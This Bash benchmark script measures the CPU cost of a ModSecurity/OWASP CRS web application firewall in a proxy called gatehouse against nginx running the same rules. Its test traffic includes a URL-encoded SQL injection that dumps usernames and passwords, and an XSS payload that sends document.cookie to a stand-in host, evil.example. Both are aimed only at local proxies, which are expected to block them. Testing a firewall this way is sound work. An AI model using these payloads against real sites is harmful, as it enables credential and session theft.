#!/usr/bin/env bash
# bench/waf_run.sh: what the WAF (ModSecurity v3 + OWASP CRS 3.3) costs per request in gatehouse,
# next to nginx running the same library and the same rules (Debian's libnginx-mod-http-modsecurity).
#
#   CPU 0 (BENCH_PROXY_CPU): the proxy under test, alone: gatehouse (all its threads: the I/O worker
#                            and the WAF pool) or the nginx+ModSecurity worker
#   CPU 1 (BENCH_LOAD_CPU):  wrk, the origin (nginx, 1 worker) and this script
#
#   origin            127.0.0.1:18200  answers every request with 100 bytes
#   gatehouse + CRS   127.0.0.1:18280  (workers 1, WAF threads 1, block mode, paranoia level 1)
#   nginx + CRS       127.0.0.1:18281  (worker_processes 1, modsecurity on, the same rules)
#
# Traffic (one wrk connection set per run, keep-alive):
#   clean-get    GET /api/users/42?include=orders&sort=-created_at  with a browser-like header set
#   clean-json   POST /api/orders  with a 400-byte JSON body (quotes, apostrophes, Korean text)
#   attack-sqli  GET /search?q=1' UNION SELECT ... (403 from both)
#   attack-xss   POST /comments  form body with a <script> (403 from both)
# The runs are interleaved (nginx, gatehouse, nginx, gatehouse, ...); each figure is the median.
# The robust figure is CPU µs per request of the proxy process (utime + stime of all its
# threads, from /proc), as in bench/run.sh.
#
# Environment: BENCH_SECONDS (default 5), BENCH_REPEATS (default 3), BENCH_CONNECTIONS (default
# 16), BENCH_TRAFFIC (subset of "clean-get clean-json attack-sqli attack-xss"), BENCH_RESULTS
# (default bench/waf_results.md), BENCH_PROXY_CPU / BENCH_LOAD_CPU, BENCH_KEEP_TMP, BENCH_NICE,
# GATEHOUSE_BIN (default build-bench/examples/gatehouse/gatehouse, built if missing).
set -euo pipefail

SCRIPT_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO_ROOT=$(cd "$SCRIPT_DIR/.." && pwd)
COMMAND_LINE="$0${*:+ $*}"
LOG_TAG=waf-bench
# shellcheck source-path=SCRIPTDIR source=common.sh
source "$SCRIPT_DIR/common.sh"

BENCH_SECONDS=${BENCH_SECONDS:-5}
BENCH_REPEATS=${BENCH_REPEATS:-3}
BENCH_CONNECTIONS=${BENCH_CONNECTIONS:-16}
BENCH_TRAFFIC=${BENCH_TRAFFIC:-clean-get clean-json attack-sqli attack-xss}
BENCH_RESULTS=${BENCH_RESULTS:-$SCRIPT_DIR/waf_results.md}
GATEHOUSE_BIN=${GATEHOUSE_BIN:-}
check_int BENCH_SECONDS 1 600
check_int BENCH_REPEATS 1 50
check_int BENCH_CONNECTIONS 1 1000
for t in $BENCH_TRAFFIC; do
  [[ $t =~ ^(clean-get|clean-json|attack-sqli|attack-xss)$ ]] || die "unknown traffic '$t' in BENCH_TRAFFIC"
done
apply_nice

CRS_SETUP=/etc/modsecurity/crs/crs-setup.conf
CRS_RULES=/usr/share/modsecurity-crs/rules
NGX_MODSEC=/usr/lib/nginx/modules/ngx_http_modsecurity_module.so
require_tools nginx wrk curl taskset getconf
[[ -f $CRS_SETUP && -d $CRS_RULES ]] || die "the OWASP CRS is missing (apt-get install modsecurity-crs)"
[[ -f $NGX_MODSEC ]] || die "nginx's ModSecurity module is missing (apt-get install libnginx-mod-http-modsecurity)"
NGINX=$(command -v nginx)
CLK_TCK=$(getconf CLK_TCK)
ulimit -n 65536 2>/dev/null || true
NOFILE=$(ulimit -n)

ORIGIN_PORT=18200
GH_PORT=18280
NGX_PORT=18281
require_free_ports "$ORIGIN_PORT" "$GH_PORT" "$NGX_PORT"

if [[ -z $GATEHOUSE_BIN ]]; then
  GATEHOUSE_BIN=$REPO_ROOT/build-bench/examples/gatehouse/gatehouse
  if [[ ! -x $GATEHOUSE_BIN ]]; then
    log "building gatehouse in $REPO_ROOT/build-bench (release, NDEBUG)"
    if [[ ! -f $REPO_ROOT/build-bench/build.ninja ]]; then
      (cd "$REPO_ROOT" && meson setup build-bench -Dbuildtype=release -Db_ndebug=true -Dtests=false) >&2
    fi
    ninja -C "$REPO_ROOT/build-bench" examples/gatehouse/gatehouse >&2
  fi
fi
[[ -x $GATEHOUSE_BIN ]] || die "gatehouse program not found or not executable: $GATEHOUSE_BIN"

setup_pinning
make_scratch gatehouse-waf-bench
mkdir -p "$TMP/origin/logs" "$TMP/nginx/logs" "$TMP/out"

# ---------------------------------------------------------------------------------------------
# Configurations: the same ModSecurity settings and CRS on both sides
# ---------------------------------------------------------------------------------------------
O=$TMP/origin
{
  nginx_common "$O"
  cat <<EOF
http {
$(nginx_temp_paths "$O")
  access_log off;
  keepalive_requests 1000000;
  server {
    listen 127.0.0.1:$ORIGIN_PORT;
    location / { default_type text/plain; return 200 "$SMALL_BODY"; }
  }
}
EOF
} >"$O/nginx.conf"

# What gatehouse's waf middleware loads for these options (lib/waf/waf_engine.cpp rules_text), in
# nginx's syntax: body limits, body processors, CRS settings, the CRS, the collections rule removed.
N=$TMP/nginx
cat >"$N/modsec.conf" <<EOF
SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 131072
SecRequestBodyNoFilesLimit 131072
SecRequestBodyLimitAction Reject
SecResponseBodyAccess Off
SecAuditEngine Off
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/(?:[a-z0-9.+-]+\+)?json" "id:440001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application(?:/soap\+|/)|text/)xml" "id:440002,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQBODY_ERROR "!@eq 0" "id:440003,phase:2,t:none,log,deny,status:400,severity:'CRITICAL',msg:'Request body does not parse'"
SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:440004,phase:2,t:none,log,deny,status:400,severity:'CRITICAL',msg:'Multipart body fails strict validation'"
Include $CRS_SETUP
SecAction "id:440010,phase:1,pass,nolog,t:none,setvar:tx.paranoia_level=1,setvar:tx.inbound_anomaly_score_threshold=5,setvar:tx.outbound_anomaly_score_threshold=4,setvar:'tx.allowed_methods=GET HEAD POST PUT PATCH DELETE OPTIONS'"
Include $CRS_RULES/*.conf
SecRuleRemoveById 901321
EOF
{
  echo "load_module $NGX_MODSEC;"
  nginx_common "$N"
  cat <<EOF
http {
$(nginx_temp_paths "$N")
  access_log off;
  keepalive_requests 1000000;
  client_body_buffer_size 256k;
  upstream origin { server 127.0.0.1:$ORIGIN_PORT; keepalive 64; }
  server {
    listen 127.0.0.1:$NGX_PORT;
    modsecurity on;
    modsecurity_rules_file $N/modsec.conf;
    location / { proxy_pass http://origin; proxy_http_version 1.1; proxy_set_header Connection ""; }
  }
}
EOF
} >"$N/nginx.conf"

cat >"$TMP/gatehouse.json" <<EOF
{
  "workers": 1,
  "drain_timeout_ms": 2000,
  "listeners": [ { "address": "127.0.0.1", "port": $GH_PORT } ],
  "upstreams": { "origin": { "endpoints": ["127.0.0.1:$ORIGIN_PORT"], "max_idle_per_worker": 256 } },
  "middleware": [
    { "name": "waf", "options": { "mode": "block", "paranoia_level": 1, "threads": 1, "queue_size": 1024,
                                  "request_body_limit": 131072, "time_limit_ms": 5000 } }
  ],
  "routes": [ { "name": "all", "path": "/", "upstream": "origin" } ]
}
EOF

# wrk scripts: one request shape each.
HDRS='["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", ["Accept"] = "application/json", ["Accept-Language"] = "en-US,en;q=0.5", ["Accept-Encoding"] = "gzip, deflate"'
cat >"$TMP/clean-get.lua" <<EOF
wrk.method = "GET"
wrk.path = "/api/users/42?include=orders&sort=-created_at"
wrk.headers = { $HDRS }
EOF
cat >"$TMP/clean-json.lua" <<EOF
wrk.method = "POST"
wrk.path = "/api/orders"
wrk.headers = { $HDRS, ["Content-Type"] = "application/json" }
wrk.body = [[{"customer":{"name":"Seo-yeon O'Brien","email":"seoyeon@example.com"},"note":"Please leave it at the door, it's fine. \"Thanks!\"","message":"안녕하세요, 배송 부탁드립니다.","items":[{"sku":"A-1001","qty":2,"price":12.5},{"sku":"B-2002","qty":1,"price":99.99}],"coupon":null}]]
EOF
cat >"$TMP/attack-sqli.lua" <<EOF
wrk.method = "GET"
wrk.path = "/search?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"
wrk.headers = { $HDRS }
EOF
cat >"$TMP/attack-xss.lua" <<EOF
wrk.method = "POST"
wrk.path = "/comments"
wrk.headers = { $HDRS, ["Content-Type"] = "application/x-www-form-urlencoded" }
wrk.body = "name=bob&comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E"
EOF
expected_status() { case $1 in clean-*) echo 200 ;; *) echo 403 ;; esac; }

# ---------------------------------------------------------------------------------------------
# Start
# ---------------------------------------------------------------------------------------------
log "scratch directory: $TMP"
note_load "before the benchmark"
start_nginx ORIGIN "$O" "$ORIGIN_PORT"
start_nginx NGX "$N" "$NGX_PORT" proxy
"$GATEHOUSE_BIN" --check "$TMP/gatehouse.json" >"$TMP/gatehouse-check.log" 2>&1 ||
  { cat "$TMP/gatehouse-check.log" >&2; die "gatehouse rejected the benchmark configuration"; }
"${ON_PROXY_CPU[@]}" "$GATEHOUSE_BIN" --config "$TMP/gatehouse.json" >"$TMP/gatehouse.log" 2>&1 &
GH_PID=$!
STARTED_PIDS+=("$GH_PID")
wait_http "http://127.0.0.1:$GH_PORT/" 20 || { cat "$TMP/gatehouse.log" >&2; die "gatehouse did not start"; }
# shellcheck disable=SC2153  # NGX_WORKER is set by start_nginx
log "gatehouse pid $GH_PID; nginx+ModSecurity worker $NGX_WORKER"

# Both must give the same verdicts before anything is measured (curl sends the same shapes).
probe_status() {  # port traffic -> HTTP status
  local url=http://127.0.0.1:$1
  case $2 in
    clean-get) curl -s -o /dev/null -w '%{http_code}' "$url/api/users/42?include=orders&sort=-created_at" ;;
    clean-json) curl -s -o /dev/null -w '%{http_code}' -H 'Content-Type: application/json' \
      --data-binary "{\"name\":\"Seo-yeon O'Brien\",\"message\":\"안녕하세요\"}" "$url/api/orders" ;;
    attack-sqli) curl -s -o /dev/null -w '%{http_code}' "$url/search?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--" ;;
    attack-xss) curl -s -o /dev/null -w '%{http_code}' -H 'Content-Type: application/x-www-form-urlencoded' \
      --data-binary 'name=bob&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E' "$url/comments" ;;
  esac
}
for t in $BENCH_TRAFFIC; do
  for target in "gatehouse $GH_PORT" "nginx $NGX_PORT"; do
    read -r name port <<<"$target"
    status=$(probe_status "$port" "$t")
    [[ $status == "$(expected_status "$t")" ]] || die "$name answers $status to $t, expected $(expected_status "$t")"
  done
done
log "verdicts agree: clean traffic 200, attacks 403 on both"

# ---------------------------------------------------------------------------------------------
# Measure
# ---------------------------------------------------------------------------------------------
# run <proxy> <traffic> <n>: prints "rps cpu_us_per_request errors"
run_one() {
  local proxy=$1 traffic=$2 n=$3 port pid out t0 t1 reqs
  if [[ $proxy == gatehouse ]]; then port=$GH_PORT pid=$GH_PID; else port=$NGX_PORT pid=$NGX_WORKER; fi
  out=$TMP/out/$proxy-$traffic-$n.txt
  t0=$(cpu_ticks "$pid")
  wrk -t1 -c"$BENCH_CONNECTIONS" -d"${BENCH_SECONDS}s" -s "$TMP/$traffic.lua" "http://127.0.0.1:$port" >"$out" 2>&1
  t1=$(cpu_ticks "$pid")
  reqs=$(awk '/requests in/{print $1}' "$out")
  [[ -n $reqs && $reqs -gt 0 ]] || die "wrk made no request against $proxy ($traffic); see $out"
  local errors
  errors=$(grep -E 'Socket errors' "$out" | tr '\n' ' ' || true)
  if [[ $traffic == clean-* ]] && grep -q 'Non-2xx' "$out"; then errors+="non-2xx on clean traffic "; fi
  awk -v r="$(wrk_rps "$out")" -v d=$((t1 - t0)) -v n="$reqs" -v hz="$CLK_TCK" -v e="$errors" \
    'BEGIN { printf "%s %.1f %s\n", r, d * 1e6 / hz / n, (e == "" ? "-" : e) }'
}

median() { sort -g | awk '{a[NR] = $1} END { if (NR % 2) print a[(NR + 1) / 2]; else printf "%.1f\n", (a[NR / 2] + a[NR / 2 + 1]) / 2 }'; }

declare -A RPS CPU ERR
for t in $BENCH_TRAFFIC; do
  # Warm-up, unrecorded.
  for p in nginx gatehouse; do
    BENCH_SECONDS=1 run_one "$p" "$t" warm >/dev/null
  done
  for ((i = 1; i <= BENCH_REPEATS; i++)); do
    for p in nginx gatehouse; do
      read -r rps cpu err <<<"$(run_one "$p" "$t" "$i")"
      log "$t $p run $i: $rps req/s, $cpu CPU µs/request${err:+ ($err)}"
      RPS[$p/$t]+="$rps "
      CPU[$p/$t]+="$cpu "
      [[ $err == "-" ]] || ERR[$p/$t]+="$err "
    done
  done
done

# ---------------------------------------------------------------------------------------------
# Report
# ---------------------------------------------------------------------------------------------
{
  echo "# WAF cost: gatehouse + CRS vs nginx + ModSecurity + CRS"
  echo
  echo "Run: \`$(env_used BENCH_SECONDS BENCH_REPEATS BENCH_CONNECTIONS BENCH_TRAFFIC BENCH_NICE)$COMMAND_LINE\`"
  echo "on $(date -u '+%Y-%m-%d %H:%M UTC'), $(nproc --all) CPUs, load average at start $LOAD_START"
  echo "(a shared machine: absolute figures move with other work; compare the two columns of one run)."
  echo "ModSecurity $(dpkg-query -W -f='${Version}' libmodsecurity3 2>/dev/null || echo '?'),"
  echo "CRS $(dpkg-query -W -f='${Version}' modsecurity-crs 2>/dev/null || echo '?'), paranoia level 1, blocking mode;"
  echo "proxy on CPU $PROXY_CPU alone, wrk ($BENCH_CONNECTIONS connections) and origin on CPU $LOAD_CPU;"
  echo "$BENCH_REPEATS interleaved runs of ${BENCH_SECONDS}s each, medians."
  echo
  echo "| traffic | nginx+ModSecurity CPU µs/req | gatehouse CPU µs/req | ratio (gatehouse/nginx) | nginx req/s | gatehouse req/s | errors |"
  echo "|---|---:|---:|---:|---:|---:|---|"
  for t in $BENCH_TRAFFIC; do
    nc=$(tr ' ' '\n' <<<"${CPU[nginx/$t]}" | grep . | median)
    gc=$(tr ' ' '\n' <<<"${CPU[gatehouse/$t]}" | grep . | median)
    nr=$(tr ' ' '\n' <<<"${RPS[nginx/$t]}" | grep . | median)
    gr=$(tr ' ' '\n' <<<"${RPS[gatehouse/$t]}" | grep . | median)
    ratio=$(awk -v g="$gc" -v n="$nc" 'BEGIN { printf "%.2f", g / n }')
    errs="${ERR[nginx/$t]:-}${ERR[gatehouse/$t]:-}"
    echo "| $t | $nc | $gc | $ratio | $nr | $gr | ${errs:--} |"
  done
  echo
  echo "CPU µs per request: utime + stime of the proxy process over the run (gatehouse: every thread,"
  echo "the WAF pool included; nginx: its one worker), divided by the requests wrk completed."
} >"$TMP/report.md"
publish_report 0 "$BENCH_RESULTS"
